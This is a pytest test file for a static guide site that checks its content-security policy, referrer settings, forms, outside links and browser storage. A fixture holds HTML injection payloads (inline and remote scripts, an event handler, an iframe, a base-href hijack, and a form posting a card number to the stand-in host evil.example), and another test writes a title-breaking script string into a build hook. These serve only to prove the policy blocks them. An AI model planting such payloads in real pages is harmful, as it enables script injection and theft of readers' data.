"""Promises about harm: what a page may load, run, send and keep, and where its links lead. See docs/security.md."""

from __future__ import annotations

import json
import re
from base64 import b64encode
from collections.abc import Iterator
from hashlib import sha256
from importlib.resources import files
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest
from bs4 import Tag
from playwright.sync_api import Browser, Route

from conftest import Server, mkdocs_build
from guide import Settings, build
from guide.kinds import HOSTS
from preview import copy_project
from reader import BASE, REPO, Page, Pages
from samples import ROOT, small, text_yaml

SEARCH = "search/"
"""The one page that may run a script."""
POLICY = "meta[http-equiv=Content-Security-Policy]"
EVIL = "https://evil.example/"


@pytest.fixture(scope="module")
def pages(site: Pages) -> list[Page]:
    """All pages of the site; and those of the small guide, of which one has moved and one is no more."""
    return [*site.values(), *Pages(small_site()).values()]


def small_site() -> dict[str, str]:
    files = small(
        lambda text: (
            text.replace("    title: Ask support\n", "    title: Ask support\n    redirect_from: [ask-the-seller]\n")
            + "\nretired:\n  ask-the-shop: {title: Ask the shop, because: It is closed., next: ask-support}\n"
        )
    )
    made = build(files, Settings(site_url=BASE)).files
    return {f"small/{path}": html for path, html in made.items() if path.endswith(".html")}


def digest(text: str) -> str:
    return f"'sha256-{b64encode(sha256(text.encode()).digest()).decode()}'"


# --- What the pages say ---


def test_every_page_says_first_what_a_browser_may_load_and_run(pages: list[Page]) -> None:
    """Its one style, its icon and a form of the site; the search also the scripts that are files of the site, never one
    that stands in the page. Only “charset” stands first."""
    for page in pages:
        charset, policy, *_ = page.soup.select("head > *")
        assert charset.get("charset") == "utf-8", page.path
        assert page.soup.select(POLICY) == [policy], page.path
        assert page.soup.find_all(style=True) == [], page.path
        (style,) = page.soup.find_all("style")
        scripts = "script-src 'self';worker-src 'self';connect-src 'self';" if page.path.endswith(SEARCH) else ""
        assert policy["content"] == (
            f"default-src 'none';{scripts}style-src {digest(style.get_text())};img-src data:;"
            "form-action 'self';base-uri 'none'"
        ), page.path


def test_the_search_page_runs_one_script_of_ours_and_one_library_as_it_was_published(site: Pages) -> None:
    """No other script is in the site, so none can be smuggled in as a file of it."""
    (script,) = site[SEARCH].soup.select("script")
    assert (script["src"], script.get_text()) == ("search.js", "")
    scripts = {path.relative_to(site.folder).as_posix(): path for path in site.folder.rglob("*.js")}
    assert {*scripts} == {f"{SEARCH}search.js", f"{SEARCH}lunr.js"}
    library = (files("mkdocs.contrib.search") / "templates" / "search" / "lunr.js").read_bytes()
    assert scripts[f"{SEARCH}lunr.js"].read_bytes() == library


def test_the_script_of_the_search_makes_no_html_of_words_and_no_program(site: Pages) -> None:
    script = (site.folder / SEARCH / "search.js").read_text(encoding="utf-8")
    for way in ("innerHTML", "outerHTML", "insertAdjacent", "DOMParser", "write(", "eval(", "new Function", "http"):
        assert way not in script, way


def test_what_stands_in_a_title_is_shown_as_words(tmp_path: Path) -> None:
    """The rules refuse it before. Here another hook brings it in, and mkdocs.yml, which no rule reads."""
    copy_project(tmp_path, small())
    evil = "</title><script>steal()</script>\"'><script>steal()</script>"
    (tmp_path / "evil.py").write_text(
        "def on_page_markdown(markdown, page, config, files):\n"
        f"    page.meta.update(title={evil!r}, description={evil!r})\n",
        encoding="utf-8",
    )
    config = tmp_path / "mkdocs.yml"
    text = config.read_text(encoding="utf-8").replace("hooks:\n", "hooks:\n  - evil.py\n")
    text = re.sub("^site_(name|description): .*", lambda key: f"site_{key[1]}: {json.dumps(evil)}", text, flags=re.M)
    config.write_text(text, encoding="utf-8")
    done = mkdocs_build(tmp_path, tmp_path / "site", SITE_URL=BASE)
    assert done.returncode == 0, done.stderr
    pages = Pages.on_disk(tmp_path / "site")
    for path in ("", "about/", SEARCH):
        assert "steal()" in pages[path].soup.select_one("head title").get_text(), path
    for path, page in pages.items():
        assert not [script for script in page.soup.select("script") if "steal()" in script.get_text()], path
        assert digest("steal()") not in str(page.soup), path


def test_no_page_tells_another_site_where_its_readers_come_from(pages: list[Page]) -> None:
    for page in pages:
        assert page.soup.select("meta[name=referrer][content=no-referrer]"), page.path


def test_no_page_holds_a_form_but_the_search(site: Pages) -> None:
    """Its one field, which it sends to itself as a part of the address."""
    for page in site.values():
        forms = page.soup.select("form")
        assert len(forms) == (page.local == SEARCH), page.path
        for form in forms:
            fields = [str(field.get("name")) for field in form.select("input, select, textarea")]
            assert (form.get("action"), form.get("method", "get"), fields) == (None, "get", ["q"])


def test_no_page_sends_its_readers_away_by_itself(site: Pages) -> None:
    """A page that has moved may, to a page of the site. A policy cannot stop the others."""
    for page in site.values():
        for tag in page.soup.select("meta[http-equiv=refresh i]"):
            target = str(tag["content"]).partition("url=")[2]
            assert urljoin(BASE + page.path, target).startswith(BASE), page.path


# --- Links to other sites ---


def outside_links(page: Page) -> Iterator[tuple[str, Tag]]:
    """The host of each link to another site, and the link."""
    for link in page.soup.select("a[href]"):
        address = urlsplit(urljoin(BASE + page.path, str(link["href"])))
        if address.scheme != "mailto" and address.netloc != urlsplit(BASE).netloc:
            yield address.netloc, link


def test_a_link_to_another_site_shows_its_host_and_tells_it_nothing(site: Pages) -> None:
    """The links below a step, which all lead to the repository, share one mark before them."""
    found = 0
    for page in site.values():
        assert page.leads_on or page.head["referrer"] == ["no-referrer"], page.path
        for host, link in outside_links(page):
            marked = link.parent if "feedback" in (link.parent or link).get("class", []) else link
            assert host in (marked or link).get_text(), (page.path, link)
            assert not link.get("target"), (page.path, link)  # So the other site has no way back into this one.
            found += 1
    assert found > 1000


def test_a_text_links_only_to_hosts_on_the_list(site: Pages) -> None:
    """Looked at once more in the finished site. Sources and bodies of countries may be anywhere."""
    allowed = {*text_yaml((ROOT / HOSTS).read_text(encoding="utf-8"))["hosts"], urlsplit(REPO).netloc}
    for page in site.values():
        for host, link in outside_links(page):
            source = "source" in link.get("class", []) or page.local.startswith(("countries/", "facts/", "situations/"))
            assert source or host in allowed, (page.path, link)


# --- What a browser does ---

WALK = [
    "",
    "first-aid/",
    "about/",
    "contributing/",
    "steps/what-does-the-order-page-say/",
    "steps/how-did-you-pay/#promised.long.asked",
    "steps/ask-your-bank-to-trace-the-refund/#completed.long.card.in-use",
    "steps/",
    "flow/",
    "print/",
    "map/",
    "map/completed/",
    "dates/",
    "dates/us-credit-card-missing-credit/",
    "countries/",
    "countries/france/",
    "messages/",
    "phrases/",
    "changes/",
    "dead-ends/",
    "404.html",
    "small/steps/ask-the-shop/",
]
"""Each kind of page. The last one is of the small guide: a step that is no more."""
NEVER_COMES = 'Did not find element expected to be parsed from: <link rel=expect href="#_end">'
"""What Chromium says of the part for which a step page waits, so that nothing jumps; it is not meant to come."""


def test_no_page_breaks_its_policy_asks_another_host_or_keeps_anything_on_the_device(
    chromium: Browser, server: Server
) -> None:
    """With scripts on; in the search a reader types. Chromium writes to the console what a policy stops."""
    context = chromium.new_context()
    asked: list[str] = []
    said: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    context.on("console", lambda message: said.append(f"{message.page.url if message.page else ''}: {message.text}"))
    context.on("weberror", lambda error: said.append(str(error.error)))
    moved = small_site()

    def answer(route: Route) -> None:
        path = urlsplit(route.request.url).path.removeprefix(urlsplit(server.base).path)
        route.fulfill(body=moved[f"{path}index.html"], content_type="text/html; charset=utf-8")

    context.route("**/small/**", answer)
    page = context.new_page()
    for path in WALK:
        page.goto(server.url(path))
        assert page.locator(POLICY).count() == 1, path
    page.goto(server.url("small/steps/ask-the-seller/"))
    page.wait_for_url("**/ask-support/")
    page.goto(server.url("search/?q=appeal"))
    page.locator("main li a").filter(visible=True).first.wait_for()
    field = page.get_by_role("searchbox")
    field.press("End")
    page.keyboard.type(" refund")
    field.press("Control+a")
    page.keyboard.type("nothing-like-it")
    page.keyboard.press("Enter")
    page.wait_for_load_state("networkidle")

    assert [words for words in said if NEVER_COMES not in words] == []
    assert {urlsplit(url).netloc for url in asked if not url.startswith("data:")} == {urlsplit(server.base).netloc}
    assert context.cookies() == []
    assert context.storage_state(indexed_db=True) == {"cookies": [], "origins": []}
    page.goto(server.url("about/"))
    assert page.evaluate(
        """async () => [localStorage.length, sessionStorage.length, await indexedDB.databases(), await caches.keys(),
        await navigator.serviceWorker.getRegistrations()]"""
    ) == [0, 0, [], [], []]
    context.close()


SMUGGLED = f"""
<script>document.title += " inline"</script>
<script src="{EVIL}a.js"></script>
<script src="data:text/javascript,document.title += ' data'"></script>
<svg onload="document.title += ' handler'"></svg>
<iframe srcdoc="<script>parent.document.title += ' frame'</script>"></iframe>
<img src="{EVIL}seen.png" alt="">
<style>@import "{EVIL}a.css"; h1 {{ position: fixed; inset: 0 }}</style>
<base href="{EVIL}">
<form action="{EVIL}card"><input name="card" value="1234"></form>
"""
"""Ways to harm a reader, if somebody could put HTML into a page."""
HARM = {"inline", "data", "handler", "frame", "a.js", "seen.png", "a.css", "card", "base", "style"}


def harm(chromium: Browser, url: str, *, policy: bool) -> set[str]:
    """What SMUGGLED manages to do in a copy of a page, with its policy or without."""
    context = chromium.new_context()
    done: set[str] = set()

    def answer(route: Route) -> None:
        address = route.request.url
        if address.startswith(EVIL):
            done.add(urlsplit(address).path[1:])
            route.fulfill(body="", headers={"Access-Control-Allow-Origin": "*"})
        elif address == url:
            html = route.fetch().text()
            html = html if policy else re.sub(r"<meta http-equiv=.Content-Security-Policy.[^>]*>", "", html)
            route.fulfill(body=html.replace("</h1>", f"</h1>{SMUGGLED}", 1), content_type="text/html; charset=utf-8")
        else:
            route.continue_()

    context.route("**/*", answer)
    page = context.new_page()
    page.goto(url)
    done |= set(page.title().split())
    done |= {"base"} if page.evaluate("document.baseURI") == EVIL else set()
    done |= {"style"} if page.locator("h1").evaluate("h1 => getComputedStyle(h1).position") == "fixed" else set()
    page.evaluate("document.querySelector('form[action*=evil]').submit()")
    page.wait_for_timeout(200)
    context.close()
    return done & HARM


@pytest.mark.parametrize("path", ["", "steps/how-did-you-pay/", SEARCH])
def test_html_that_somebody_smuggles_into_a_page_does_nothing(chromium: Browser, server: Server, path: str) -> None:
    """Without the policy it would do all of it."""
    assert harm(chromium, server.url(path), policy=False) == HARM
    assert harm(chromium, server.url(path), policy=True) == set()
